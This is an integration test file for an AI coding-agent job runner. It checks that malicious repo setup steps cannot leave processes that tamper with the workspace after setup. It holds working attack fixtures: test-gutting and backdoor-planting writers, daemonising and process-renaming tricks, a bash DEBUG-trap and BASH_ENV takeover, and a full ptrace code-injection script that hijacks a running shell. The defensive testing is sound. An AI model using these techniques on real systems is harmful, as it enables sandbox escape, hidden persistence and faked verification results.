// Issue 41, part 1: nothing of the repo's survives setup into the baseline, the snapshot or the
// agent phase. Each attack is the repo's setup leaving something behind that writes after setup
// ended: it guts the tests (so verify would pass without a fix) and plants src/backdoor.js (a
// file the agent never wrote). Each runs through a real worker process (dist/ or src/ via tsx),
// Redis, Docker and git with the scripted model, whose agent only writes NOTES.md: the job must
// end with exactly that patch, and verify must fail on clamp()'s real bug. Stock repo:
// examples/clamp; verify: python3 -m unittest -q.
//
// Backend: Docker (the attacks need the isolation and the limits).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PatchbayClient } from "../../src/queue/client.js";
import type { JobResult, TranscriptEvent } from "../../src/core/spec/spec.js";
import { removeQueueSandboxes, startRedis, startWorkerProc, type WorkerProc } from "../support/cluster.js";
import { reply, startFakeAnthropic, text, toolUse, type FakeAnthropic, type Reply } from "../support/fake-anthropic.js";
import { byTurn, taskOf } from "../support/scripts.js";

const CLAMP = new URL("../../examples/clamp", import.meta.url).pathname;
const VERIFY = "python3 -m unittest -q";
const bash = (command: string) => reply(toolUse("bash", { command }));

// The writer every attack leaves: after a delay (setup is over by then), for a minute, every
// 10 ms, it guts the tests and plants the backdoor.
const GUT_PY = `
import os, sys, time
time.sleep(float(sys.argv[1]))
end = time.time() + 60
while time.time() < end:
    try:
        os.makedirs("/workspace/src", exist_ok=True)
        with open("/workspace/src/backdoor.js", "w") as f: f.write("stolen()\\n")
        with open("/workspace/test_clamp.py", "w") as f: f.write("import unittest\\nclass T(unittest.TestCase):\\n    def test_ok(self): pass\\n")
    except OSError: pass
    time.sleep(0.01)
`;
const WRITE_GUT = `cat > /tmp/gut.py <<'EOF'\n${GUT_PY}\nEOF`;

// A daemon by the book: fork, setsid, fork again, its parent gone, stdio closed.
const DAEMON_PY = `
import os, sys
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.chdir("/")
fd = os.open("/dev/null", os.O_RDWR)
for i in (0, 1, 2): os.dup2(fd, i)
os.execvp("python3", ["python3", "/tmp/gut.py", "1.5"])
`;

// A writer that looks like the agent's shell: named bash (prctl PR_SET_NAME, what ps -o comm and
// /proc/PID/status show) with an argv that reads as patchbay's own shell.
const RENAMED_PY = `
import ctypes, os, sys
ctypes.CDLL(None).prctl(15, b"bash", 0, 0, 0)
time = __import__("time")
exec(open("/tmp/gut.py").read().replace("float(sys.argv[1])", "1.5"))
`;

// The sourced-script takeover: sourced into the setup shell itself, it leaves a DEBUG trap (run
// before every later command the shell reads, armed two seconds on), a PROMPT_COMMAND, and
// variables bash would run as code if a shell took them in (BASH_ENV, PS4 under xtrace), plus a
// variable to carry (TAKEOVER=1: data only).
const TAKEOVER_SH = `
ARMED=$((SECONDS + 2))
trap '[ "$SECONDS" -ge "$ARMED" ] && python3 /tmp/gut.py 0 </dev/null >/dev/null 2>&1 &' DEBUG
echo 'python3 /tmp/gut.py 0 &' > /tmp/env.sh
export BASH_ENV=/tmp/env.sh PS4='$(python3 /tmp/gut.py 0 &)' PROMPT_COMMAND='python3 /tmp/gut.py 0 &' TAKEOVER=1
tk() { python3 /tmp/gut.py 0 & }
export -f tk
`;

// A real ptrace injection (the reproduction): while the setup shell waits for its last
// command, a process of setup's attaches to it (same uid; Docker's default seccomp allows ptrace),
// reads the pending command's nonce from its memory, makes the shell's saved stdin inheritable
// (an injected fcntl) and makes it execve TAKEN_SH: a shell, the same pid, that ends that command
// as patchbay's protocol expects, serves every later command, and from two seconds on keeps a
// writer running. x86_64 only.
const INJECT_PY = `import ctypes, os, re, struct, sys, time
def failed(kind, err, tb):
    with open("/tmp/taken", "w") as f: f.write("inject failed: %s\\n" % err)
sys.excepthook = failed
shell = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
def nonces():
    # Candidates for the nonce of the shell's command (32 hex digits, a word of its own in its
    # memory): the current one's end marker is due; the others' are only output.
    found = []
    with open("/proc/%d/maps" % shell) as maps, open("/proc/%d/mem" % shell, "rb", 0) as mem:
        for line in maps:
            f = line.split()
            if "rw" not in f[1] or len(f) > 5 and f[5].startswith("/"): continue
            lo, hi = (int(x, 16) for x in f[0].split("-"))
            try:
                mem.seek(lo); data = mem.read(hi - lo)
            except OSError: continue
            for m in re.finditer(rb"(?<![0-9a-zA-Z])([0-9a-f]{32})\\0", data):
                if m.group(1) not in found: found.append(m.group(1))
    return found
def link(fd):
    return os.readlink("/proc/%d/fd/%s" % (shell, fd))
while open("/proc/%d/syscall" % shell).read().split()[0] != "61": time.sleep(0.001)  # wait4: its command runs
with open("/tmp/nonces", "wb") as f: f.write(b"".join(n + b"\\n" for n in nonces()))
# While its command runs, the shell's own stdin (the worker's pipe) is a close-on-exec copy: the
# injected code makes it inheritable, and the new program takes it as its stdin.
saved = min(int(fd) for fd in os.listdir("/proc/%d/fd" % shell) if int(fd) > 2 and link(fd).startswith("pipe:") and link(fd) != link(1))
with open("/tmp/stdin-fd", "w") as f: f.write(str(saved))
# Where ptrace is refused (a seccomp profile), it says so, and a plain writer that outlives setup stands in.
if libc.ptrace(16, shell, None, None) != 0:
    with open("/tmp/taken", "w") as f: f.write("ptrace refused: errno %d\\n" % ctypes.get_errno())
    os.execvp("python3", ["python3", "/tmp/gut.py", "1.5"])
os.waitpid(shell, 0x40000000)
r = Regs()
libc.ptrace(12, shell, None, ctypes.byref(r))
at = r.rip - 2  # the syscall instruction it stopped after
if libc.ptrace(1, shell, ctypes.c_void_p(at), None) & 0xffff != 0x050f: raise RuntimeError("not stopped after a syscall instruction")
def regs(nr, a, b, c):
    libc.ptrace(12, shell, None, ctypes.byref(r))
    r.rip, r.rax, r.orig_rax, r.rdi, r.rsi, r.rdx = at, nr, (1 << 64) - 1, a, b, c
    libc.ptrace(13, shell, None, ctypes.byref(r))
regs(72, saved, 2, 0)  # fcntl(saved, F_SETFD, 0), run to its exit
for _ in range(2):
    libc.ptrace(24, shell, None, None); os.waitpid(shell, 0x40000000)
# The strings go to the low end of the stack's mapping: inside it (so the kernel writes them), far
# below anything in use.
with open("/proc/%d/maps" % shell) as maps:
    base = next(int(l.split("-")[0], 16) for l in maps if l.rstrip().endswith("[stack]")) + 256
data, addrs = b"", []
for s in (b"/bin/bash", b"bash", b"--noprofile", b"--norc", b"/tmp/taken.sh"):
    addrs.append(base + len(data)); data += s + b"\\0"
data += b"\\0" * (-len(data) % 8)
argv = base + len(data); data += struct.pack("<5Q", *addrs[1:], 0)
envp = base + len(data); data += struct.pack("<Q", 0)
for i in range(0, len(data), 8):
    if libc.ptrace(5, shell, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("<Q", data[i:i + 8])[0])) != 0: raise OSError(ctypes.get_errno(), "PTRACE_POKEDATA")
regs(59, addrs[0], argv, envp)  # execve("/bin/bash", [..., "/tmp/taken.sh"], [])
libc.ptrace(17, shell, None, None)
`;
const TAKEN_SH = `echo "taken over: $$" > /tmp/taken
exec 0<&"$(< /tmp/stdin-fd)" 2>&1
exec {__pb_fd}>&1
__pb_pre() { IFS= read -r -d '' __pb_cmd; builtin printf 'PBSTART%s:\\n' "$1"; }
__pb_exec() { eval "$__pb_cmd"; }
__pb_post() { builtin printf '\\nPBEND%s:%d\\n' "$1" "$2"; }
while IFS= read -r n; do builtin printf '\\nPBEND%s:0\\n' "$n"; done < /tmp/nonces
taken=$SECONDS w= line=
while :; do
  if [ $((SECONDS - taken)) -ge 2 ] && { [ -z "$w" ] || ! kill -0 "$w" 2>/dev/null; }; then python3 /tmp/gut.py 0 </dev/null >/dev/null 2>&1 & w=$!; fi
  if IFS= read -r -t 0.05 part; then eval "$line$part"; line=; elif [ $? -gt 128 ]; then line+=$part; else exit 0; fi
done
`;

const ATTACKS: Record<string, string[]> = {
  ptrace: [
    WRITE_GUT,
    `cat > /tmp/inject.py <<'EOF'\n${INJECT_PY}\nEOF`,
    `cat > /tmp/taken.sh <<'EOF'\n${TAKEN_SH}\nEOF`,
    "python3 /tmp/inject.py $$ </dev/null >/dev/null 2>&1 & sleep 2",
  ],
  // A child of setup that waits for setup to end, then writes.
  child: [WRITE_GUT, "(python3 /tmp/gut.py 1.5 </dev/null >/dev/null 2>&1 &)"],
  takeover: [WRITE_GUT, `cat > /tmp/takeover.sh <<'EOF'\n${TAKEOVER_SH}\nEOF`, "source /tmp/takeover.sh"],
  daemon: [WRITE_GUT, `cat > /tmp/daemon.py <<'EOF'\n${DAEMON_PY}\nEOF`, "python3 /tmp/daemon.py"],
  renamed: [
    WRITE_GUT,
    `cat > /tmp/renamed.py <<'EOF'\n${RENAMED_PY}\nEOF`,
    "(exec -a 'bash --noprofile --norc' python3 /tmp/renamed.py </dev/null >/dev/null 2>&1 &)",
  ],
  setsid: [WRITE_GUT, "setsid -f python3 /tmp/gut.py 1.5 </dev/null >/dev/null 2>&1"],
};

// The agent: waits past every attack's arming, looks, writes its one file, and ends.
const AGENT: Reply[] = [
  bash(
    'sleep 3; ls /workspace; cat /tmp/taken 2>/dev/null; echo "TAKEOVER=[${TAKEOVER-}] BASH_ENV=[${BASH_ENV-}] trap=[$(trap -p DEBUG)] tk=[$(declare -F tk)]"',
  ),
  bash("cd /workspace && echo agent > NOTES.md && sleep 1 && ls /workspace"),
  reply(text("Done.")),
];

// Setup's directory and exported variables carry into the agent's shell as data; nothing else does.
const CARRY_SETUP = [
  "mkdir -p 'sub dir' && cd 'sub dir' && export CARRIED=\"a b'c\\$(x)\" && export PATH=\"/workspace/bin:$PATH\" && f() { :; } && trap 'echo TRAPPED' DEBUG && unset LANG",
];
const CARRY: Reply[] = [
  bash('echo "[$CARRIED] [$PWD] [${PATH%%:*}] [$(declare -F f)] [${LANG-unset}]"; trap -p DEBUG; echo end'),
  reply(text("Done.")),
];

describe("setup leaves nothing running into the baseline, the snapshot or the agent phase (real worker, Docker, git)", () => {
  const ctx = {} as {
    redis: Awaited<ReturnType<typeof startRedis>>;
    fake: FakeAnthropic;
    worker: WorkerProc;
    client: PatchbayClient;
  };
  const queue = `setup-leftovers-${process.pid}`;
  beforeAll(async () => {
    ctx.redis = await startRedis();
    ctx.fake = await startFakeAnthropic(byTurn((body) => (/carry/.test(taskOf(body)) ? CARRY : AGENT)));
    // PATCHBAY_ALLOW_PTRACE=1 (a worker for trusted repos): the kill after setup must hold even where
    // the seccomp profile lets setup trace its shell; test/integration/engines/sandbox-security.test.ts holds the profile.
    ctx.worker = startWorkerProc({
      REDIS_URL: ctx.redis.url,
      PATCHBAY_QUEUE: queue,
      ANTHROPIC_BASE_URL: ctx.fake.url,
      ANTHROPIC_API_KEY: "test-key",
      PATCHBAY_CONCURRENCY: "2",
      PATCHBAY_ALLOW_PTRACE: "1",
    });
    await ctx.worker.waitFor(/ready/);
    ctx.client = new PatchbayClient({ redisUrl: ctx.redis.url, queueName: queue });
  });
  afterAll(async () => {
    await ctx.client?.close();
    await ctx.worker?.stop();
    await ctx.fake?.close();
    await ctx.redis?.stop();
    await removeQueueSandboxes(queue);
  });

  async function run(task: string, setup: string[]): Promise<{ result: JobResult; outputs: string[] }> {
    const id = await ctx.client.enqueue({ task, repo: { path: CLAMP }, setup, verify: VERIFY, verifyRounds: 0 });
    const result = await ctx.client.waitForResult(id, { timeoutMs: 180_000 });
    const events: TranscriptEvent[] = [];
    for await (const e of ctx.client.watch(id)) events.push(e);
    return { result, outputs: events.flatMap((e) => (e.type === "tool_result" ? [e.output] : [])) };
  }

  // The job is exactly the agent's: its one file in the patch, and verify failing on the real bug.
  function onlyTheAgents({ result, outputs }: { result: JobResult; outputs: string[] }) {
    expect({
      status: result.status,
      filesChanged: result.filesChanged,
      error: result.status === "failed" ? result.error : undefined,
    }).toEqual({ status: "verify_failed", filesChanged: ["NOTES.md"], error: undefined });
    expect(result.error).toMatch(/^verify failed \(exit 1\)/);
    expect(outputs[1]).not.toMatch(/src/); // nothing wrote after setup ended
    expect(result.filesChanged).toEqual(["NOTES.md"]);
    expect(result.patch).not.toMatch(/backdoor|test_ok/);
    expect(result).toMatchObject({ status: "verify_failed", verified: false });
    expect(result.verify?.outputTail).toMatch(/FAILED \(failures=1\)/);
  }

  it("setup's shell taken over by ptrace (execve injected into it, the protocol served on): killed like any process of the uid", async () => {
    const r = await run("attack=ptrace", ATTACKS.ptrace!);
    onlyTheAgents(r);
    // The injection ran (this worker allows ptrace), and the kill after setup still ended it.
    expect(r.outputs[0]).toMatch(/taken over: \d+/);
  });

  it.each(["child", "daemon", "renamed", "setsid"])(
    "setup leaves a %s writer: killed with everything of the agent's uid before the baseline",
    async (attack) => {
      onlyTheAgents(await run(`attack=${attack}`, ATTACKS[attack]!));
    },
  );

  it("a sourced-script takeover of the setup shell (a DEBUG trap, BASH_ENV, PS4, an exported function) dies with that shell; only its data carries", async () => {
    const r = await run("attack=takeover", ATTACKS.takeover!);
    onlyTheAgents(r);
    expect(r.outputs[0]).toMatch(/TAKEOVER=\[1\] BASH_ENV=\[\] trap=\[\] tk=\[\]/);
  });

  it("the agent's shell starts in setup's directory with its exported variables (set as data), not its functions or traps", async () => {
    const { result, outputs } = await run("carry", CARRY_SETUP);
    expect(outputs[0]).toMatch(/^\[a b'c\$\(x\)\] \[\/workspace\/sub dir\] \[\/workspace\/bin\] \[\] \[unset\]\nend/);
    expect(result.filesChanged).toEqual([]);
  });
});
